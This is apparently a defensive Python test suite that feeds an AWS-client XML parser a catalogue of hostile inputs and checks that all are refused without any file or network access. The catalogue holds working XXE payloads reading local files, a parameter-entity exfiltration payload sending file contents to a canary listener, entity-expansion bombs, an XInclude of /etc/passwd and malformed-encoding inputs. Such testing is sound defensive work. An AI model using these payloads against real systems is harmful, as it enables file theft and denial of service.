"""Reliability line B9: hostile XML through aws/xml.c, alone and as an answer that the program gets.

Refused: every document type declaration, whatever is in it, before anything of it is used; what is not well-formed; what is beyond the
caps of aws/xml.h. Nothing is ever fetched or opened: each external reference names a listener and a file that would tell."""

import json
import os
import shutil
import socket
import subprocess
import threading
import time

import pytest
from fakeaws import ACCOUNT, FakeAws
from program import SLOWER, Sluice
from suites import BUILD, b64, environment, read_all

GOOD = ('<GetCallerIdentityResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><GetCallerIdentityResult><Arn>arn:aws:iam::1:user/x</Arn>'
        f'<UserId>AIDA</UserId><Account>{ACCOUNT}</Account></GetCallerIdentityResult></GetCallerIdentityResponse>')


def bomb(levels, width, root="a"):
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * width if i else "lol"}">' for i in range(levels))
    return f"<?xml version=\"1.0\"?><!DOCTYPE {root} [{entities}]><{root}>&e{levels - 1};</{root}>"


def dtds(url, path):
    """Each holds a document type declaration; url and path are the canaries."""
    return {
        "billion laughs": bomb(10, 10),
        "billion laughs, deep and narrow": bomb(200, 2),
        "quadratic blow-up": f'<!DOCTYPE a [<!ENTITY x "{"A" * 50000}">]><a>{"&x;" * 50000}</a>',
        "an entity of itself": '<!DOCTYPE a [<!ENTITY x "&x;">]><a>&x;</a>',
        "two entities of each other": '<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>',
        "parameter entity bomb": '<!DOCTYPE a [<!ENTITY % x "%y;%y;"><!ENTITY % y "z">%x;]><a/>',
        "an empty declaration": "<!DOCTYPE a><a/>",
        "an empty internal subset": "<!DOCTYPE a []><a/>",
        "html": "<!DOCTYPE html><html/>",
        "a harmless entity": '<!DOCTYPE a [<!ENTITY x "1">]><a>&x;</a>',
        "an entity never used": '<!DOCTYPE a [<!ENTITY x "1">]><a/>',
        "an entity named as a built-in": '<!DOCTYPE a [<!ENTITY lt "&#38;#60;">]><a>&lt;</a>',
        "external entity, file": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{path}">]><a>&x;</a>',
        "external entity, bare path": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{path}">]><a>&x;</a>',
        "external entity, http": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{url}/x">]><a>&x;</a>',
        "external entity, public": f'<!DOCTYPE a [<!ENTITY x PUBLIC "-//x//y" "{url}/x">]><a>&x;</a>',
        "external entity, /dev/zero": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///dev/zero">]><a>&x;</a>',
        "external entity, ftp": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{url.replace("http", "ftp")}/latest/meta-data/">]><a>&x;</a>',
        "external entity in an attribute": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{path}">]><a b="&x;"/>',
        "external subset, http": f'<!DOCTYPE a SYSTEM "{url}/x.dtd"><a/>',
        "external subset, file": f'<!DOCTYPE a SYSTEM "file://{path}"><a/>',
        "external subset, public": f'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{url}/x.dtd"><a/>',
        "external subset and standalone": f'<?xml version="1.0" standalone="yes"?><!DOCTYPE a SYSTEM "{url}/x"><a/>',
        "parameter entity, external": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{url}/x.dtd"> %x;]><a/>',
        "exfiltration by parameter entities": (f'<!DOCTYPE a [<!ENTITY % f SYSTEM "file://{path}"><!ENTITY % d "<!ENTITY &#37; s SYSTEM \'{url}/?%f;\'>">'
                                               "%d;%s;]><a/>"),
        "unparsed entity and notation": f'<!DOCTYPE a [<!NOTATION n SYSTEM "{url}/n"><!ENTITY x SYSTEM "{url}/x" NDATA n>]><a b="x"/>',
        "default attributes": '<!DOCTYPE a [<!ATTLIST a b CDATA "1">]><a/>',
        "a default namespace by the DTD": '<!DOCTYPE a [<!ATTLIST a xmlns CDATA #FIXED "urn:x">]><a/>',
        "element declarations": "<!DOCTYPE a [<!ELEMENT a (b*)>]><a/>",
        "conditional section": "<!DOCTYPE a [<![INCLUDE[<!ENTITY x '1'>]]>]><a/>",
        "after a comment": "<!-- x --><!DOCTYPE a><a/>",
        "after a processing instruction": '<?x y?><!DOCTYPE a [<!ENTITY x "1">]><a>&x;</a>',
        "in UTF-16": '<!DOCTYPE a [<!ENTITY x "1">]><a>&x;</a>'.encode("utf-16"),
        "in UTF-16 without a mark": '<?xml version="1.0" encoding="UTF-16LE"?><!DOCTYPE a><a/>'.encode("utf-16-le"),
        "in Latin-1": '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE a><a>\xe4</a>'.encode("latin-1"),
        "with a byte order mark": b"\xef\xbb\xbf<!DOCTYPE a><a/>",
        "cut off": "<!DOCTYPE a [<!ENTITY x ",
        "around a good answer": GOOD.replace("<GetCallerIdentityResponse", '<!DOCTYPE GetCallerIdentityResponse [<!ENTITY x "1">]><GetCallerIdentityResponse', 1),
        "around an account by entity": f'<!DOCTYPE r [<!ENTITY x "{ACCOUNT}">]>' + GOOD.replace(ACCOUNT, "&x;"),
    }


REFUSED = {
    "nothing": "", "blanks": " \n\t", "text": "hello", "JSON": "{}", "HTML that is no XML": "<html><br><p>x</html>",
    "wrong nesting": "<a><b></a></b>", "wrong end": "<a></b>", "no end": "<a><b/>", "two roots": "<a/><b/>", "text after the root": "<a/>x",
    "an end alone": "</a>", "an unknown entity": "<a>&nope;</a>", "HTML's entities": "<a>&nbsp;</a>", "a bare ampersand": "<a>a & b</a>",
    "an open tag in a tag": "<a <b/>", "an attribute without quotes": "<a b=1/>", "an attribute twice": '<a b="1" b="2"/>',
    "an attribute with <": '<a b="<"/>', "NUL": b"<a>\x00</a>", "NUL by reference": "<a>&#0;</a>", "NUL in a name": b"<a\x00b/>",
    "control characters": b"<a>\x01\x1b[2J</a>", "a control character by reference": "<a>&#27;</a>", "a surrogate by reference": "<a>&#xD800;</a>",
    "beyond Unicode": "<a>&#x110000;</a>", "a noncharacter": "<a>&#xFFFF;</a>", "not UTF-8": b"<a>\xff\xfe</a>", "overlong UTF-8": b"<a>\xc0\xbc</a>",
    "UTF-8 cut off": b"<a>\xe2\x82</a>", "surrogates in UTF-8": b"<a>\xed\xa0\x80</a>",
    "said to be UTF-16, is not": '<?xml version="1.0" encoding="UTF-16"?><a/>', "an unknown encoding": '<?xml version="1.0" encoding="EBCDIC-CP-US"?><a/>',
    "UTF-7": '<?xml version="1.0" encoding="UTF-7"?><a>+ADw-</a>', "an encoding that is a path": '<?xml version="1.0" encoding="../../etc/passwd"?><a/>',
    "two declarations": '<?xml version="1.0"?><?xml version="1.0"?><a/>', "a declaration too late": ' <?xml version="1.0"?><a/>',
    "XML as an instruction's name": "<a><?xml x?></a>", "an open comment": "<a><!-- </a>", "two dashes in a comment": "<a><!-- -- --></a>",
    "an open CDATA": "<a><![CDATA[ </a>", "a CDATA's end alone": "<a>]]></a>", "CDATA outside": "<![CDATA[x]]><a/>", "CDATA within CDATA": "<a><![CDATA[<![CDATA[x]]>]]></a>",
    "an open instruction": "<a><?x </a>", "a name that begins with a digit": "<1a/>", "an empty name": "<></>",
    "nesting of 33": "<a>" * 33 + "</a>" * 33, "nesting of a million": "<a>" * 1_000_000, "nesting of 33, the last empty": "<a>" * 32 + "<b/>" + "</a>" * 32,
    "a name of 1 MiB": f"<{'n' * (1 << 20)}/>", "names of 2 KiB together": f"<{'a' * 1024}><{'b' * 1024}/></{'a' * 1024}>",
    "a text of 8 MiB": f"<a>{'x' * (8 << 20)}</a>", "text between elements, 8 MiB": f"<a>{('y' * 1000 + '<b/>') * 8000}</a>",
    "a CDATA of 8 MiB": f"<a><![CDATA[{'x' * (8 << 20)}]]></a>", "references of 2 MiB": f"<a>{'&#65;' * (1 << 21)}</a>",
}

MANY = " ".join(f"b{i}=''" for i in range(10000))

# What looks hostile and is not: accepted, and what is handed over is exactly this.
ACCEPTED = {
    "mixed namespaces": ('<x:a xmlns:x="urn:1" xmlns="urn:2"><b/><x:b>1</x:b><y:b xmlns:y="urn:3">2</y:b></x:a>', [["a/b", ""], ["a/b", "1"], ["a/b", "2"], ["a", ""]]),
    "a prefix bound to nothing": ("<z:a>1</z:a>", [["a", "1"]]),
    "the namespace of XML bound elsewhere": ('<a xmlns:xml="urn:x">1</a>', [["a", "1"]]),
    "CDATA with markup": ("<a><![CDATA[<b>&x;</b><!DOCTYPE z>]]></a>", [["a", "<b>&x;</b><!DOCTYPE z>"]]),
    "a CDATA's end split in two": ("<a><![CDATA[]]]]><![CDATA[>]]></a>", [["a", "]]>"]]),
    "a declaration in a comment": ("<!-- <!DOCTYPE a> --><a>1</a>", [["a", "1"]]),
    "instructions": ('<?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?><a><?php exit; ?>1</a>', [["a", "1"]]),
    "a schema elsewhere": ('<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="u http://127.0.0.1:9/x.xsd">1</a>', [["a", "1"]]),
    "XInclude": ('<a><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></a>', [["a/include", ""], ["a", ""]]),
    "escapes of escapes": ("<a>&amp;lt;b&amp;gt;</a>", [["a", "&lt;b&gt;"]]),
    "terminal controls that XML allows": ("<a>\xc2\x9b31m\u202e</a>", [["a", "\xc2\x9b31m\u202e"]]),
    "an attribute of 1 MiB": (f'<a b="{"x" * (1 << 20)}">1</a>', [["a", "1"]]),
    "10,000 attributes": (f"<a {MANY}>1</a>", [["a", "1"]]),
    "UTF-16": ("<a>\u00e4</a>".encode("utf-16"), [["a", "\u00e4"]]),
    "Latin-1": (b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe4</a>', [["a", "\u00e4"]]),
    "nesting of 32": ("<a>" * 32 + "</a>" * 32, [["/".join("a" * n), ""] for n in range(32, 0, -1)]),
    "a text of 1 MiB": (f"<a>{'x' * (1 << 20)}</a>", [["a", "x" * (1 << 20)]]),
}


class Canary:
    """A listener that nobody may ever ask, and a file whose text nobody may ever tell."""

    def __init__(self, folder):
        self.path = folder / "canary.txt"
        self.secret = "CANARY-5c1f"
        self.path.write_text(self.secret)
        os.utime(self.path, (1, 1))
        self.asked = 0
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self):
        while True:
            try:
                c, _ = self.socket.accept()
            except OSError:
                return
            self.asked += 1
            c.close()

    def close(self):
        self.socket.close()

    def untouched(self):
        return self.asked == 0


@pytest.fixture
def canary(tmp_path):
    c = Canary(tmp_path)
    yield c
    c.close()


def traced(command, feed, folder):
    """Under strace where there is one: (exit, output, files opened and addresses connected once main has begun to read)."""
    log = folder / "trace.txt"
    argv = ["strace", "-f", "-qq", "-e", "trace=read,open,openat,connect,socket", "-o", log, *command] if shutil.which("strace") else command
    p = subprocess.run(argv, input=feed, capture_output=True, text=True, timeout=120 * SLOWER, env=environment(ASAN_OPTIONS="detect_leaks=0"))
    if not log.exists():
        return p, None
    lines = log.read_text(errors="replace").splitlines()
    first = next(i for i, line in enumerate(lines) if "read(0," in line)
    return p, [line for line in lines[first:] if "read(" not in line and "ENOENT" not in line]


def test_hostile_files(figure, canary, tmp_path):
    cases = [(f"DTD: {k}", v, None) for k, v in dtds(canary.url, canary.path).items()]
    cases += [(k, v, None) for k, v in REFUSED.items()] + [(k, v, events) for k, (v, events) in ACCEPTED.items()]
    feed = "".join(json.dumps({"do": "xml", "body": b64(v)}) + "\n" for _, v, _ in cases)
    begun = time.monotonic()
    p, touched = traced([BUILD / "tools" / "protocol_cli"], feed, tmp_path)
    took = time.monotonic() - begun
    assert p.returncode == 0 and not p.stderr, p.stderr[-3000:]
    answers = [json.loads(line) for line in p.stdout.splitlines()]
    wrong, dtd = [], 0
    for (name, _, events), a in zip(cases, answers, strict=True):
        if events is not None:
            right = a["ok"] and a["events"] == events
        else:
            right = not a["ok"] and a["why"].startswith("line ")
            if name.startswith("DTD"):
                dtd += a["ok"]
                # nothing of the document has been handed over; a declaration that cannot be read is refused as what it is
                right = right and not a["events"] and ("document type" in a["why"] or name in ("DTD: cut off", "DTD: in UTF-16 without a mark"))
        if not right or canary.secret in json.dumps(a):
            wrong.append(f"{name}: {str(a)[:400]}")
    note = f"{len(dtds('', ''))} DTDs, {dtd} accepted; {len(REFUSED)} refused otherwise, {len(ACCEPTED)} odd but good; {took:.1f} s for all"
    note += "; strace saw no file opened, no socket" if touched == [] else "; no strace here: listener and file as canaries" if touched is None else f"; touched: {touched[:3]}"
    figure("B9", "hostile XML: DTDs, entities, nesting, encodings, sizes", attempted=len(cases), passed=len(cases) - len(wrong), reached=len(answers), note=note)
    assert not wrong, "\n".join(wrong[:5])
    assert dtd == 0 and not touched and canary.untouched()


def test_as_answers(figure, tmp_path, canary):
    """The same as what STS answers the program: it goes on without the account's number, says why, and asks nobody else."""
    hostile = {**dtds(canary.url, canary.path), **{k: REFUSED[k] for k in ("wrong nesting", "NUL", "control characters", "nesting of a million", "not UTF-8")}}
    names = ["billion laughs", "quadratic blow-up", "external entity, file", "external entity, http", "external subset, http", "external subset, file",
             "exfiltration by parameter entities", "parameter entity, external", "around a good answer", "around an account by entity", "in UTF-16",
             "wrong nesting", "NUL", "control characters", "nesting of a million", "not UTF-8"]
    wrong, reached = [], 0
    for i, name in enumerate(names):
        text = hostile[name] if isinstance(hostile[name], bytes) else hostile[name].encode()
        with FakeAws({"sts:GetCallerIdentity": lambda h, op: h.reply(200, text, "text/xml")}) as aws:
            ran = Sluice(tmp_path / str(i))("status", "--format", "json", env=aws.env())
            reached += bool(aws.calls.get("sts:GetCallerIdentity"))
        right = "sts:GetCallerIdentity" in ran.err and canary.secret not in ran.out + ran.err and ran.status in (0, 1) and ran.err.count("\n") == 1
        if not right:
            wrong.append(f"{name}: {ran}")
    figure("B9", "hostile XML as STS's answer to the program", attempted=len(names), passed=len(names) - len(wrong), reached=reached,
           note=f"canary listener asked {canary.asked} times")
    assert not wrong, wrong[0]
    assert canary.untouched()
